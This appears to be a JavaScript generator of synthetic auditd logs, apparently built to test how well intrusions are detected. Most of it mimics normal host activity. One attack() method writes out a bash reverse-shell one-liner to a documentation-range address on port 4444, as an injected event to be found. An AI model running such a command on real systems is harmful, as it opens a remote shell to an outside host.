/** What auditd writes of a host at work, as `log_format = ENRICHED` has it: the records of one event after the other. */
import { command, touchedFile } from './commands.mjs';

const START_SECONDS = 1_790_000_000;
const GAP_MS = 40; // mean time between two events
const FIRST_PID = 1200;
const PID_COUNT = 60_000;
/** Programs whose processes live long: they fork what the log is about, talk to the network, and never start in it. */
const DAEMONS = [
  ['sshd', '/usr/sbin/sshd'],
  ['cron', '/usr/sbin/cron'],
  ['systemd', '/usr/lib/systemd/systemd'],
  ['containerd-shim', '/usr/bin/containerd-shim-runc-v2'],
  ['nginx', '/usr/sbin/nginx'],
];
const USERS = [
  ['0', 'root'],
  ['33', 'www-data'],
  ['1000', 'alice'],
  ['1001', 'deploy'],
];
const SYSCALLS = { connect: 42, clone: 56, execve: 59, unlink: 87, openat: 257 };

/** Makes events: each call gives the text of the next, and sometimes of two whose records interleave. */
export class LogWriter {
  #random;
  #unique;
  #ms = START_SECONDS * 1000;
  #serial = 1000;
  #pid = FIRST_PID;
  #processes;

  /** `unique`: share of commands whose program occurs nowhere else. */
  constructor(random, unique) {
    this.#random = random;
    this.#unique = unique;
    this.#processes = DAEMONS.map(([name, exe], number) => ({
      pid: 300 + number,
      parent: 1,
      name,
      exe,
      user: USERS[0],
      session: null,
    }));
  }

  next() {
    const random = this.#random;
    const first = this.#event();
    // Calls that end at the same time on two processors.
    return random.below(500) === 0 ? interleaved(first, this.#event()) : first.join('');
  }

  /** A reverse shell: bash with a connection on its standard input, output and errors. */
  attack() {
    const parent = this.#processes[3];
    const call = `bash -i >& /dev/tcp/198.51.100.${this.#random.between(1, 254)}/4444 0>&1`;
    const shell = this.#start(parent, 'bash', '/usr/bin/bash');
    return [
      ...this.#exec(shell, ['bash', '-c', call]),
      ...this.#connect(shell, `0200115CC6336407${'0'.repeat(16)}`),
    ].join('');
  }

  #event() {
    const random = this.#random;
    const dice = random.below(4000) / 4;
    const process = random.pick(this.#processes);
    if (dice < 400) return this.#run(process);
    if (dice < 520) return this.#fork(process);
    if (dice < 740) return this.#touch(process);
    if (dice < 800) return this.#connect(process, random.pick(NEAR));
    if (dice < 850) return this.#connect(this.#client(), farAddress(random));
    if (dice < 999.75) return this.#session(process);
    return [this.#line('BPF', this.#stamp(), `prog-id=${random.below(900)} op=UNLOAD`)];
  }

  #run(parent) {
    const random = this.#random;
    const [exe, args] = command(random, random.chance(this.#unique));
    const name = exe.slice(exe.lastIndexOf('/') + 1, exe.lastIndexOf('/') + 16);
    return this.#exec(this.#start(parent, name, exe), args);
  }

  /** A process in place of one that has run long enough. */
  #start(parent, name, exe) {
    const random = this.#random;
    this.#pid = FIRST_PID + ((this.#pid + 1 - FIRST_PID) % PID_COUNT);
    const user = random.chance(0.3) ? random.pick(USERS) : parent.user;
    const session = parent.session ?? (random.chance(0.3) ? random.between(1, 400) : null);
    const process = { pid: this.#pid, parent: parent.pid, name, exe, user, session };
    if (this.#processes.length < 400) this.#processes.push(process);
    else this.#processes[random.between(DAEMONS.length, 399)] = process;
    return process;
  }

  /** A process that lives for one connection. */
  #client() {
    this.#pid = FIRST_PID + ((this.#pid + 1 - FIRST_PID) % PID_COUNT);
    const [parent] = this.#processes;
    return { ...parent, pid: this.#pid, parent: parent.pid, name: 'curl', exe: '/usr/bin/curl' };
  }

  #exec(process, args) {
    const stamp = this.#stamp();
    const list = args.map((arg, number) => `a${number}=${text(arg)}`).join(' ');
    return [
      this.#call(stamp, 'execve', process, { exit: 0, items: 2, key: 'exec' }),
      this.#line('EXECVE', stamp, `argc=${args.length} ${list}`),
      this.#line('CWD', stamp, `cwd="/srv"`),
      this.#path(stamp, 0, process.exe),
      this.#path(stamp, 1, '/lib64/ld-linux-x86-64.so.2'),
      this.#title(stamp, args),
    ];
  }

  #fork(process) {
    const stamp = this.#stamp();
    const child = FIRST_PID + ((this.#pid + 1 - FIRST_PID) % PID_COUNT);
    return [
      this.#call(stamp, 'clone', process, { exit: child, items: 0, key: 'fork' }),
      this.#title(stamp, [process.name]),
    ];
  }

  #touch(process) {
    const stamp = this.#stamp();
    const isOpened = this.#random.chance(0.8);
    return [
      this.#call(stamp, isOpened ? 'openat' : 'unlink', process, {
        exit: 3,
        items: 1,
        key: 'file',
      }),
      this.#line('CWD', stamp, `cwd="/srv"`),
      this.#path(stamp, 0, touchedFile(this.#random)),
      this.#title(stamp, [process.name, '--serve']),
    ];
  }

  #connect(process, address) {
    const stamp = this.#stamp();
    return [
      this.#call(stamp, 'connect', process, { exit: -115, items: 0, key: 'net' }),
      this.#line('SOCKADDR', stamp, `saddr=${address}\x1dSADDR={ saddr_fam=inet }`),
      this.#title(stamp, [process.name, '--serve']),
    ];
  }

  /** What PAM and systemd report. */
  #session({ pid }) {
    const random = this.#random;
    const [id, name] = random.pick(USERS);
    const session = random.between(1, 400);
    if (random.chance(0.2)) {
      const unit = random.pick(['phpsessionclean', 'apt-daily', 'logrotate', 'fstrim']);
      const type = random.pick(['SERVICE_START', 'SERVICE_STOP']);
      const says = `unit=${unit} comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success`;
      return [this.#message(type, `pid=1 uid=0 auid=4294967295 ses=4294967295`, says)];
    }
    const step = random.pick(PAM);
    const says = `op=PAM:${step.op} grantors=${step.grantors} acct="${name}" exe="/usr/sbin/cron" hostname=? addr=? terminal=cron res=success`;
    return [this.#message(step.type, `pid=${pid} uid=0 auid=${id} ses=${session}`, says)];
  }

  #message(type, ids, says) {
    return this.#line(type, this.#stamp(), `${ids} msg='${says}'\x1dUID="root" AUID="unset"`);
  }

  #stamp() {
    this.#ms += this.#random.below(2 * GAP_MS);
    this.#serial += 1;
    const seconds = Math.floor(this.#ms / 1000);
    return `${seconds}.${String(this.#ms % 1000).padStart(3, '0')}:${this.#serial}`;
  }

  #call(stamp, syscall, { pid, parent, name, exe, user, session }, { exit, items, key }) {
    const random = this.#random;
    const [id, userName] = user;
    const ids = `uid=${id} gid=${id} euid=${id} suid=${id} fsuid=${id} egid=${id} sgid=${id} fsgid=${id}`;
    const names = ['UID', 'GID', 'EUID', 'SUID', 'FSUID', 'EGID', 'SGID', 'FSGID']
      .map((field) => `${field}="${userName}"`)
      .join(' ');
    const auid = session === null ? '4294967295' : id;
    const success = exit < 0 ? 'no' : 'yes';
    return this.#line(
      'SYSCALL',
      stamp,
      `arch=c000003e syscall=${SYSCALLS[syscall]} success=${success} exit=${exit} a0=${random.hex(6)} a1=${random.hex(6)} a2=${random.hex(6)} a3=${random.hex(4)} items=${items} ppid=${parent} pid=${pid} auid=${auid} ${ids} tty=${session === null ? '(none)' : 'pts0'} ses=${session ?? '4294967295'} comm=${text(name)} exe=${text(exe)} subj=unconfined key="${key}"\x1dARCH=x86_64 SYSCALL=${syscall} AUID="${session === null ? 'unset' : userName}" ${names}`,
    );
  }

  #path(stamp, item, name) {
    const inode = this.#random.below(900_000);
    return this.#line(
      'PATH',
      stamp,
      `item=${item} name=${text(name)} inode=${inode} dev=fd:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\x1dOUID="root" OGID="root"`,
    );
  }

  #title(stamp, args) {
    const title = args.join('\0');
    const isPlain = args.length === 1 && text(title).startsWith('"');
    const bytes = Buffer.from(title).subarray(0, 128);
    const written = isPlain ? text(title) : bytes.toString('hex').toUpperCase();
    return this.#line('PROCTITLE', stamp, `proctitle=${written}`);
  }

  #line(type, stamp, body) {
    return `type=${type} msg=audit(${stamp}): ${body}\n`;
  }
}

const PAM = [
  { type: 'USER_ACCT', op: 'accounting', grantors: 'pam_permit' },
  { type: 'CRED_ACQ', op: 'setcred', grantors: 'pam_permit' },
  { type: 'USER_START', op: 'session_open', grantors: 'pam_loginuid,pam_env,pam_unix,pam_limits' },
  { type: 'CRED_DISP', op: 'setcred', grantors: 'pam_permit' },
  { type: 'USER_END', op: 'session_close', grantors: 'pam_loginuid,pam_env,pam_unix,pam_limits' },
];

/** As the kernel writes a text: in quotes, or in hexadecimal where some character is not plain. */
function text(value) {
  return /^[\x21\x23-\x7e]*$/.test(value)
    ? `"${value}"`
    : Buffer.from(value).toString('hex').toUpperCase();
}

/** Addresses on this host: of a Unix socket, of its resolver. */
const NEAR = [
  `0100${Buffer.from('/run/systemd/journal/socket').toString('hex').toUpperCase()}00`,
  `020000357F000035${'0'.repeat(16)}`,
];

function farAddress(random) {
  return `020001BB0A00${random.hex(2).toUpperCase()}${'0'.repeat(16)}`;
}

function interleaved(first, second) {
  const records = [];
  for (let at = 0; at < Math.max(first.length, second.length); at++) {
    if (at < first.length) records.push(first[at]);
    if (at < second.length) records.push(second[at]);
  }
  return records.join('');
}
